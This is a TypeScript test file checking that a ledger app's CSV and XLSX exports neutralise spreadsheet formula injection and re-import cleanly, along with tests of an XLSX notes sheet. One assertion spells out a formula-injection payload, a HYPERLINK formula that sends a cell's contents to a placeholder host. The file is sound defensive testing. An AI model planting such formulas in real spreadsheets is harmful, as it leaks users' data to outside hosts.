// The one export helper (src/lib/files/sheet-export.ts): CSV and XLSX read back give the same text, and nothing a
// ledger holds becomes a formula (field case 20-export-injection).
import { read } from '@e965/xlsx';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../src/lib/files/csv';
import { importFiles } from '../../../src/lib/ingest/import';
import { csvText, inert, xlsxBytes } from '../../../src/lib/files/sheet-export';
import { toXlsx } from '../../../src/lib/files/export';
import { filterWords } from '../../../src/lib/components/print/filter-words';
import { EMPTY_FILTER } from '../../../src/lib/filter/filters';
import { TABLES } from '../../../src/lib/schema/schema';
import { geo, load, locate } from './load';

const communities = TABLES.find((t) => t.name === 'communities')!;

async function ledger() {
	const { dataset, errors } = await load(['tests/fixtures/field-cases/20-export-injection']);
	expect(errors).toEqual([]);
	const header = communities.columns.map((c) => c.zh);
	const rows = dataset.communities.map((r) =>
		communities.columns.map((c) => {
			const v = (r as unknown as Record<string, string | number | boolean | null>)[c.name];
			return typeof v === 'boolean' ? (v ? '是' : '否') : v;
		})
	);
	return { dataset, table: [header, ...rows] };
}

describe('exports: CSV with BOM and XLSX, inert and read back', () => {
	it('makes a text cell inert only when it begins with = + - @ tab or CR', () => {
		expect(['=1+1', '+86', '-3幢', '@x', '\tx', '\rx', '3幢', '试验', 5, -5, null].map(inert)).toEqual([
			"'=1+1",
			"'+86",
			"'-3幢",
			"'@x",
			"'\tx",
			"'\rx",
			'3幢',
			'试验',
			5,
			-5,
			null
		]);
	});

	it('CSV: a BOM, the dangerous cells prefixed, and the importer gives the same text back', async () => {
		const { dataset, table } = await ledger();
		const csv = csvText(table);
		expect(csv.charCodeAt(0)).toBe(0xfeff);
		const cells = parseCsv(csv).rows.flat();
		expect(cells).toContain("'-3幢");
		expect(cells.some((c) => /^[=+\-@]/.test(c))).toBe(false);
		const again = await importFiles([{ name: 'communities.csv', bytes: new TextEncoder().encode(csv) }], {
			defaultTowns: geo.towns,
			locate
		});
		expect(again.problems.filter((p) => p.level === 'error')).toEqual([]);
		expect(again.dataset.communities).toEqual(dataset.communities);
	});

	it('XLSX: every text a string cell, no formula, and the importer gives the same text back', async () => {
		const { dataset, table } = await ledger();
		const bytes = await xlsxBytes([{ name: '小区', rows: table }]);
		const ws = read(bytes, { type: 'array', cellFormula: true }).Sheets['小区']!;
		const cells = Object.entries(ws).filter(([k]) => !k.startsWith('!'));
		expect(cells.filter(([, c]) => (c as { f?: string }).f !== undefined)).toEqual([]);
		expect(ws['B2']).toMatchObject({ t: 's', v: '=HYPERLINK("http://example.invalid/?x="&A1,"点此查看")' });
		expect(ws['D2']).toMatchObject({ t: 's', v: '-3幢' });
		const again = await importFiles([{ name: 'ledger.xlsx', bytes }], { defaultTowns: geo.towns, locate });
		expect(again.problems.filter((p) => p.level === 'error')).toEqual([]);
		expect(again.dataset.communities).toEqual(dataset.communities);
	});
});

describe('the list’s XLSX says what it is (its 说明 sheet)', () => {
	const notes = async (filter: { label: string; value: string }[]) => {
		const wb = read(await toXlsx([], { asOf: '2026-11-15', filter }));
		const sheet = wb.Sheets['说明']!;
		const out: (string | number)[][] = [];
		for (let r = 1; sheet[`A${r}`]; r++) out.push([sheet[`A${r}`].v, sheet[`B${r}`]?.v]);
		return out;
	};

	it('names the filter, part by part, and counts the communities listed', async () => {
		const rows = await notes([
			{ label: '乡镇街道', value: '柳市镇、乐成街道' },
			{ label: '改造资格', value: '符合改造条件' }
		]);
		expect(rows).toContainEqual(['数据截至', '2026-11-15']);
		expect(rows).toContainEqual(['筛选：乡镇街道', '柳市镇、乐成街道']);
		expect(rows).toContainEqual(['筛选：改造资格', '符合改造条件']);
		expect(rows).toContainEqual(['小区数', 0]);
	});

	it('says the whole list when nothing is filtered (the printed report’s words for it)', async () => {
		expect(await notes(filterWords(EMPTY_FILTER, [], 'zh'))).toContainEqual([
			'筛选：范围',
			'全市全部小区（未筛选）'
		]);
	});
});
